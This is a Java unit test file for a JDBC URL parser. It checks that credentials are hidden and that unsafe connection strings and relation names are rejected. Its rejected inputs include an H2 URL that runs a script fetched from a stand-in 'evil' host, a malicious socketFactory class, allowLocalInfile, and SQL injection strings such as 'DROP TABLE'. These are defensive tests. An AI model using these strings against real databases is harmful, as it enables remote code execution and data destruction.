package io.alluvium.source.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.alluvium.catalog.OptionCatalog;
import io.alluvium.catalog.SourceDefinition;
import io.alluvium.fault.AlluviumException;
import io.alluvium.fault.ErrorCode;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    private static JdbcUrl url(String text, Map<String, String> with) {
        var source = new SourceDefinition.Jdbc(text, "t");
        return JdbcUrl.of(source, OptionCatalog.resolve(source, with, key -> Optional.empty()));
    }

    @ParameterizedTest
    @CsvSource({
        "postgresql://h:1/d?user=u&password=p, jdbc:postgresql://h:1/d?user=u&password=p, postgresql://h:1/d",
        "jdbc:postgresql://h/d, jdbc:postgresql://h/d, jdbc:postgresql://h/d",
        "JDBC:mysql://h/d, jdbc:mariadb://h/d, JDBC:mysql://h/d",
        "postgres://u:p%40q@h/d, jdbc:postgresql://h/d, postgres://h/d",
        "h2:mem:x;USER=u;PASSWORD=p, jdbc:h2:mem:x;USER=u;PASSWORD=p, h2:mem:x",
        "oracle:thin:scott/tiger@h:1521:x, jdbc:oracle:thin:scott/tiger@h:1521:x, oracle:thin:h:1521:x",
        "sqlite:/data/a.db, jdbc:sqlite:/data/a.db, sqlite:/data/a.db",
    })
    void aUrlIsGivenToTheDriverWithoutItsUserAndShownWithoutSecrets(String text, String wanted, String shown) {
        JdbcUrl url = url(text, Map.of());

        assertThat(url.url()).isEqualTo(wanted);
        assertThat(url.shown()).isEqualTo(shown);
        assertThat(new SourceDefinition.Jdbc(text, "t")).hasToString("database " + shown + " t");
    }

    @Test
    void userAndPasswordComeFromTheOptionsBeforeTheUrl() {
        JdbcUrl url = url("postgresql://a:b@h/d", Map.of("jdbc.user", "me", "jdbc.password", "x&y"));

        assertThat(url.properties()).containsEntry("user", "me").containsEntry("password", "x&y");
        assertThat(url.masked("a:b x&y")).isEqualTo("a:******** ********");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "postgresql://h/d?a=b&socketFactory=evil.Class",
                "mariadb://h/d?allowLocalInfile=true",
                "nothing",
                "://h"
            })
    void whatWouldRunCodeAndWhatIsNoUrlIsRefused(String text) {
        assertThatThrownBy(() -> url(text, Map.of()))
                .isInstanceOfSatisfying(
                        AlluviumException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.CONFIGURATION));
    }

    @ParameterizedTest
    @ValueSource(strings = {"t; DROP TABLE t", "a.b.c.d", "", "a..b", "'t'", "DELETE FROM t"})
    void aRelationIsANameOrAQuery(String text) {
        assertThatThrownBy(() -> Relation.of(text))
                .isInstanceOfSatisfying(
                        AlluviumException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.CONFIGURATION));
    }

    @Test
    void namesHaveUpToThreePartsWithTheQuotesOfTheDatabase() {
        assertThat(Relation.of("a.\"B c\".`d``e`").parts())
                .containsExactly(
                        new Relation.Part("a", false), new Relation.Part("B c", true), new Relation.Part("d`e", true));
        assertThat(Relation.of(" with x as (select 1) select * from x ; ").from())
                .isEqualTo("(with x as (select 1) select * from x\n) alluvium_rows");
    }
}
